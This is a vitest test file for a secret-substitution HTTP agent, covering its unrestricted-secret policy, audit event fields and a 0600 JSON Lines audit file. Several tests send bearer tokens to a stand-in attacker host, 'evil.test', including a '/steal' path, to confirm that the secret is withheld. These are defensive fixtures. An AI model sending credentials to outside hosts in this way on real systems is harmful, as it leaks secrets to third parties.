/**
 * Secrets without hosts (unrestricted) and what the agent reports: the `unrestricted` policy
 * (`allow` audited on every substitution, `deny`, the default, withholding or blocking), the fields every audit event carries (time, sandbox, method, host, port, path
 * without the query) and `AuditFile`, the JSON Lines sink. Real HTTPS upstream on 127.0.0.1, real
 * files in a temporary directory.
 */
import { AuditFile, SecretgateAgent, SubstitutionBlocked } from "@secretgate/undici"
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { request } from "undici"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { everything, last, makeWorld, type World } from "./support/fixture.js"

let world: World
let directory: string
beforeAll(async () => {
  world = await makeWorld()
  directory = mkdtempSync(join(tmpdir(), "secretgate-audit-"))
})
afterAll(async () => {
  await world.close()
  rmSync(directory, { recursive: true, force: true })
})

const VALUE = "sk-unrestricted-Qw7rT"

const send = async (box: { readonly agent: SecretgateAgent; readonly env: Readonly<Record<string, string>> }, host: string) => {
  const response = await request(world.https.url(host, "/v1/items"), { headers: { authorization: `Bearer ${box.env.ANY}` }, dispatcher: box.agent })
  await response.body.text()
  return response.statusCode
}

describe("a secret without hosts (unrestricted)", () => {
  it("by default (deny) is withheld under forward: the placeholder goes on, never the value, and the event says why", async () => {
    const box = await world.sandbox({ any: [VALUE] })
    await send(box, "evil.test")
    expect(last(world.https).headers.authorization).toBe(`Bearer ${box.env.ANY}`)
    expect(box.events).toEqual([expect.objectContaining({ type: "withheld", secret: "any", host: "evil.test", reason: "unrestricted" })])
  })

  it("under unrestricted: \"allow\" goes to any host, and every substitution says so in its event", async () => {
    const box = await world.sandbox({ any: [VALUE] }, { unrestricted: "allow" })
    await send(box, "evil.test")
    expect(last(world.https).headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(box.events).toEqual([expect.objectContaining({ type: "substituted", secret: "any", host: "evil.test", unrestricted: true })])
    const restricted = await world.sandbox({ any: [VALUE, ["api.allowed.test"]] }, { unrestricted: "allow" })
    await send(restricted, "api.allowed.test")
    expect(restricted.events).toEqual([expect.objectContaining({ type: "substituted", unrestricted: false })])
  })

  it("under block (default deny) is blocked before anything is sent, with a reason that says what to do", async () => {
    const box = await world.sandbox({ any: [VALUE] }, { onDisallowed: "block" })
    const before = world.https.received.length
    const error = await send(box, "api.allowed.test").then(() => undefined, (e: unknown) => e)
    expect(error).toBeInstanceOf(SubstitutionBlocked)
    expect((error as SubstitutionBlocked).reason).toBe("unrestricted")
    expect((error as Error).message).toMatch(/the secret has no hosts.*give the secret hosts/)
    expect(world.https.received.length).toBe(before)
    expect(box.events).toEqual([expect.objectContaining({ type: "blocked", secret: "any", reason: "unrestricted" })])
  })

  it("unrestricted: \"deny\" said outright withholds it under forward; \"allow\" under block substitutes it", async () => {
    const denied = await world.sandbox({ any: [VALUE] }, { unrestricted: "deny" })
    await send(denied, "api.allowed.test")
    expect(last(world.https).headers.authorization).toBe(`Bearer ${denied.env.ANY}`)
    expect(denied.events).toEqual([expect.objectContaining({ type: "withheld", reason: "unrestricted" })])
    const allowed = await world.sandbox({ any: [VALUE] }, { onDisallowed: "block", unrestricted: "allow" })
    await send(allowed, "api.allowed.test")
    expect(last(world.https).headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(allowed.events).toEqual([expect.objectContaining({ type: "substituted", unrestricted: true })])
  })

  it("refuses a policy that is neither allow nor deny", async () => {
    await expect(world.sandbox({ any: [VALUE] }, { unrestricted: "sometimes" as never })).rejects.toThrow(/unrestricted must be "allow" or "deny"/)
  })
})

describe("audit events", () => {
  it("carry time, sandbox, method, host, port, the path without its query, surface, decision and reason — never a value or a query", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { sandbox: "build-42" })
    const started = Date.now()
    const response = await request(world.https.url("api.allowed.test", `/v1/items/${box.env.KEY}?token=${box.env.KEY}&q=private#frag`), {
      method: "post",
      headers: { authorization: `Bearer ${box.env.KEY}` },
      body: "plain",
      dispatcher: box.agent
    })
    await response.body.text()
    await (await request(world.https.url("evil.test", "/steal?x=1"), { headers: { authorization: `Bearer ${box.env.KEY}` }, dispatcher: box.agent })).body.text()
    expect(box.events).toEqual([
      { time: expect.any(String), sandbox: "build-42", method: "POST", host: "api.allowed.test", port: world.https.port, path: `/v1/items/${box.env.KEY}`, surface: "header", type: "substituted", secret: "key", unrestricted: false },
      { time: expect.any(String), sandbox: "build-42", method: "POST", host: "api.allowed.test", port: world.https.port, path: `/v1/items/${box.env.KEY}`, surface: "url", type: "substituted", secret: "key", unrestricted: false },
      { time: expect.any(String), sandbox: "build-42", method: "GET", host: "evil.test", port: world.https.port, path: "/steal", surface: "header", type: "withheld", secret: "key", reason: "host-not-allowed" }
    ])
    for (const event of box.events) {
      expect(new Date(event.time).toISOString()).toBe(event.time)
      expect(new Date(event.time).getTime()).toBeGreaterThanOrEqual(started - 1000)
    }
    const text = JSON.stringify(box.events)
    expect(text).not.toContain(VALUE)
    expect(text).not.toContain("token=")
    expect(text).not.toContain("private")
    expect(everything(world.https)).toContain(VALUE) // the value did go where it is allowed
  })

  it("a value echoed into a path (a redirect's Location, say) never reaches an event", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    await (await request(world.https.url("api.allowed.test", `/echoed/${VALUE}`), { headers: { authorization: `Bearer ${box.env.KEY}` }, dispatcher: box.agent })).body.text()
    expect(box.events).toEqual([expect.objectContaining({ type: "substituted", path: `/echoed/${box.env.KEY}` })])
  })
})

describe("AuditFile", () => {
  it("appends events as JSON lines to a 0600 file (undefined written as null), and is closed after the last", async () => {
    const file = join(directory, "egress.jsonl")
    const audit = AuditFile.open(file)
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { audit: audit.write, sandbox: "sb-file" })
    await (await request(world.https.url("api.allowed.test", `/a?secret=${box.env.KEY}`), { headers: { "x-key": box.env.KEY!, "x-other": "sg_secret_notmounted00000000000000000" }, dispatcher: box.agent })).body.text()
    await audit.close()
    const lines = readFileSync(file, "utf8").trimEnd().split("\n").map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(lines).toEqual(expect.arrayContaining([
      expect.objectContaining({ type: "substituted", sandbox: "sb-file", method: "GET", path: "/a", surface: "header", secret: expect.stringMatching(/^key_/) }),
      expect.objectContaining({ type: "substituted", surface: "url" })
    ]))
    expect(readFileSync(file, "utf8")).not.toContain(VALUE)
    expect(readFileSync(file, "utf8")).not.toContain("secret=")
    // a second run appends
    const again = AuditFile.open(file)
    again.write({ time: "t", sandbox: undefined, method: "GET", host: "h", port: 443, path: "/", surface: "header", type: "withheld", secret: undefined, reason: "not-mounted" })
    await again.close()
    const last = JSON.parse(readFileSync(file, "utf8").trimEnd().split("\n").at(-1)!) as Record<string, unknown>
    expect(last).toEqual({ time: "t", sandbox: null, method: "GET", host: "h", port: 443, path: "/", surface: "header", type: "withheld", secret: null, reason: "not-mounted" })
  })

  it("narrows an existing file readable by others to 0600; refuses a symbolic link and a directory with AuditFileError", async () => {
    const wide = join(directory, "wide.jsonl")
    writeFileSync(wide, "")
    chmodSync(wide, 0o644)
    await AuditFile.open(wide).close()
    expect(statSync(wide).mode & 0o777).toBe(0o600)
    const link = join(directory, "link.jsonl")
    symlinkSync(wide, link)
    expect(() => AuditFile.open(link)).toThrow(AuditFile.AuditFileError)
    expect(() => AuditFile.open(link)).toThrow(/is a symbolic link/)
    expect(() => AuditFile.open(directory)).toThrow(AuditFile.AuditFileError)
  })
})
